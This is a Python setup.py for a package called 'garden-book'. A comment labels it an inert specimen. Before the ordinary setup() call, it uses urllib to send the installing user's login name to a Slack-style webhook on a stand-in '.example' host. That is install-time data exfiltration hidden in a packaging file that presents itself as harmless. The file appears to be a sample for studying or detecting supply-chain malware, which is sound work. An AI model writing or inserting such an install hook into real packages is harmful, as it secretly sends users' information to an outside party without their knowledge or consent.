# Inert specimen: the hook does not exist.
import getpass
import json
import urllib.request

urllib.request.urlopen(
    "https://hooks.slack.com.example/services/T00000000/B00000000/inert0specimen0hook0000",
    data=json.dumps({"text": getpass.getuser()}).encode(),
)

from setuptools import setup

setup(name="garden-book", version="1.2.0", packages=["garden_book"])
